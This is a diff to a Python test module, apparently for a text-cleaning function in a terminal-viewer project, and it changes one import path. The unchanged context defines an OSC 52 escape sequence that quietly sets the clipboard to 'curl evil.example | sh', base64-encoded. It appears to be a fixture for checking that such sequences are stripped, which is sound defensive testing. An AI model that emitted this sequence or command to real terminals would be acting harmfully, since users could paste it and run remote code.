@@ -8,7 +8,7 @@ import unicodedata
 
 import pytest
 
-from concurview.tui.text import clean
+from concurview.trace.text import clean
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # sets the clipboard to `curl evil.example | sh`
 
